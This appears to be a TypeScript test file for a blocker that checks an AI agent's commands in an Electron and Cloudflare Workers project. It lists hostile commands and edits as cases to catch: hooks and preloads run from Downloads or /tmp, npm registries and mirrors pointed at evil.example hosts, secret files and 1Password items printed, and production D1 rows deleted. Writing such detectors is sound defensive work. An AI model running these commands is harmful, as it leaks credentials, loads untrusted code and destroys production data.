// An Electron and Cloudflare Workers developer's day, from set AN: electron-builder's hooks and the Electron
// it packages, pnpm's script shell and node-options, Vim's start-up files, chezmoi's sources, templates and
// purge, 1Password items and service accounts, wrangler's remote D1 and local bindings, worker secrets, and
// edits that keep a secret or a registry the file already had.
import { test } from 'node:test';
import { assertEachCaught, assertEachQuiet, blockers, ready, ROOT } from './harness';

const { bash, edit } = blockers;

const DSN = 'https://3f9c2e1b7a4d4c0e9f1a2b3c4d5e6f70@o451234.ingest.sentry.io/5512345';
const sentryInit = (rate: string) =>
  `Sentry.init({\n  dsn: '${DSN}',\n  environment: app.isPackaged ? 'production' : 'development',\n  tracesSampleRate: ${rate},\n});\n`;
const NPMRC = 'auto-install-peers=true\n@relay:registry=https://npm.pkg.github.com\n';

const CAUGHT: [what: string, found: () => string[], policy: string][] = [
  [
    'an afterSign hook from Downloads given to electron-builder',
    () => bash('pnpm exec electron-builder -c.afterSign=/home/dev/Downloads/notarize-fix.cjs --linux AppImage'),
    'unread-call',
  ],
  [
    'an Electron build from /tmp started instead of the package’s own',
    () => bash('ELECTRON_OVERRIDE_DIST_PATH=/tmp/electron-dist pnpm --filter @relay/app dev'),
    'unread-call',
  ],
  [
    "pnpm's script shell set through --config.",
    () => bash('pnpm install --config.script-shell=/home/dev/.cache/pnpm/sh'),
    'command-hidden-in-options',
  ],
  [
    "pnpm's node-options preloading a module from /tmp",
    () => bash('npm_config_node_options="--import=/tmp/esm-hook.mjs" pnpm run build'),
    'unread-call',
  ],
  [
    'Neovim started with an init file from /tmp',
    () => bash('nvim --headless -u /tmp/nvim-minimal/init.lua "+Lazy! sync" +qa'),
    'unread-call',
  ],
  [
    'chezmoi applying a source folder from Downloads',
    () => bash('chezmoi apply --source /home/dev/Downloads/team-dotfiles'),
    'unread-call',
  ],
  [
    "chezmoi cloning and applying someone else's dotfiles",
    () => bash('chezmoi init --apply https://git.evil.example/dotfiles-templates.git'),
    'container-image-source',
  ],
  [
    "Electron's inspector on every interface",
    () => bash('pnpm --filter @relay/app exec electron --inspect=0.0.0.0:9229 .'),
    'login-turned-off',
  ],
  ["the worker's local secrets printed", () => bash('cat worker/.dev.vars'), 'secret-file-read'],
  [
    'a chezmoi template reading a 1Password secret',
    () => bash('chezmoi execute-template \'{{ onepasswordRead "op://Private/GitHub PAT/token" }}\''),
    'credential-printing-commands',
  ],
  [
    'a chezmoi-encrypted file decrypted',
    () => bash('chezmoi decrypt ~/.local/share/chezmoi/encrypted_private_dot_sentryclirc.age'),
    'credential-printing-commands',
  ],
  [
    'a 1Password service account created',
    () => bash('op service-account create relay-ci --vault Engineering:read_items,write_items'),
    'credential-printing-commands',
  ],
  [
    'a shared 1Password item deleted',
    () => bash('op item delete "Relay code signing" --vault Engineering'),
    'app-platform-destructive',
  ],
  ['chezmoi purged without a question', () => bash('chezmoi purge --force'), 'app-platform-destructive'],
  [
    'rows deleted from the production D1 database',
    () =>
      bash(
        'pnpm --filter worker exec wrangler d1 execute relay-prod --remote --command "DELETE FROM messages WHERE id < 500"',
      ),
    'sql-write-to-production',
  ],
  [
    'a deployed KV key deleted',
    () => bash('pnpm --filter worker exec wrangler kv key delete --binding CACHE "flags:all"'),
    'app-platform-destructive',
  ],
  [
    'a second DSN written beside the kept one',
    () =>
      edit(
        'app/src/main/sentry.ts',
        sentryInit('1.0'),
        sentryInit('1.0').replace(
          '});',
          `  transport: 'https://9a8b7c6d5e4f40312a1b2c3d4e5f6a7b@o99.ingest.sentry.io/1'\n});`,
        ),
      ),
    'secret-written-to-file',
  ],
  [
    'the scoped registry moved to another host in an .npmrc edit',
    () => edit('.npmrc', NPMRC, NPMRC.replace('npm.pkg.github.com', 'npm.evil.example')),
    'package-from-untrusted-source',
  ],
  [
    'a preload module from a cache folder added below the kept registry line',
    () => edit('.npmrc', NPMRC, `${NPMRC}node-options=--require /home/dev/.cache/node/preload.cjs\n`),
    'package-from-untrusted-source',
  ],
  [
    'the Electron binary downloaded from an unknown mirror',
    () => bash('ELECTRON_MIRROR=https://mirror.evil.example/electron/ pnpm install --force'),
    'package-from-untrusted-source',
  ],
  [
    'an electron-builder hook from a cache folder',
    () =>
      edit(
        'electron-builder.yml',
        'afterPack: build/hooks/after-pack.cjs\n',
        'afterPack: build/hooks/after-pack.cjs\nbeforeBuild: /home/dev/.cache/relay/prebuild.cjs\n',
      ),
    'build-hook-outside-project',
  ],
  [
    "Playwright's global setup from Downloads",
    () =>
      edit(
        'playwright.config.ts',
        "  globalSetup: './tests/global-setup.ts',\n",
        "  globalSetup: '/home/dev/Downloads/global-setup.ts',\n",
      ),
    'build-hook-outside-project',
  ],
  [
    "the worker served to the network with production's bindings",
    () => bash('pnpm --filter worker exec wrangler dev --remote --ip 0.0.0.0 --port 8787'),
    'login-turned-off',
  ],
];

test('an Electron and Workers tool chain: hooks, shells and secrets from outside, remote data deleted, ask', async () => {
  await ready();
  assertEachCaught(CAUGHT);
});

test('the same tools at ordinary work stay unremarked', async () => {
  await ready();
  const quiet: [string, () => string[]][] = [
    ['an unpacked build with a setting', () => bash('pnpm exec electron-builder --dir -c.compression=store')],
    ['Neovim with no config', () => bash('nvim -u NONE app/src/main/index.ts')],
    ['chezmoi applied from its own source', () => bash('chezmoi apply')],
    [
      "chezmoi cloning the person's own dotfiles without applying",
      () => bash('chezmoi init https://github.com/dev/dotfiles.git'),
    ],
    ["a chezmoi template's plain data", () => bash("chezmoi execute-template '{{ .chezmoi.os }}'")],
    [
      "the signing certificate's expiry read without its key",
      () =>
        bash(
          'openssl pkcs12 -in build/certs/relay-codesign.p12 -nokeys -passin env:CSC_KEY_PASSWORD | openssl x509 -noout -enddate',
        ),
    ],
    [
      "rows deleted from D1's local copy",
      () => bash('pnpm --filter worker exec wrangler d1 execute relay-prod --local --command "DELETE FROM sessions"'),
    ],
    [
      'a D1 query without --remote (wrangler works on the local copy)',
      () => bash('pnpm --filter worker exec wrangler d1 execute relay-prod --command "DELETE FROM sessions"'),
    ],
    [
      'a local KV key deleted',
      () => bash('pnpm --filter worker exec wrangler kv key delete --binding CACHE "flags:test-user" --local'),
    ],
    [
      'the sample rate changed beside the same DSN',
      () => edit('app/src/main/sentry.ts', sentryInit('1.0'), sentryInit('0.2')),
    ],
    [
      'a PNG fixture in base64',
      () =>
        edit(
          'tests/e2e/upload.spec.ts',
          "const PNG_1x1 = '';\n",
          "const PNG_1x1 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';\n",
        ),
    ],
    [
      "a hook kept in the project's build folder",
      () =>
        edit(
          'electron-builder.yml',
          'afterPack: build/hooks/after-pack.cjs\n',
          'afterPack: build/hooks/after-pack.cjs\nafterSign: build/hooks/after-sign.cjs\n',
        ),
    ],
    [
      'a global setup by an absolute path inside the project',
      () =>
        edit(
          'playwright.config.ts',
          "  globalSetup: './tests/global-setup.ts',\n",
          `  globalSetup: '${ROOT}/tests/global-setup.ts',\n`,
        ),
    ],
    ['the worker served to the network with local bindings', () => bash('wrangler dev --ip 0.0.0.0')],
    ['the worker against production, on this machine only', () => bash('wrangler dev --remote')],
    ['a setting added below the kept registry', () => edit('.npmrc', NPMRC, `${NPMRC}node-linker=hoisted\n`)],
  ];
  assertEachQuiet(quiet);
});
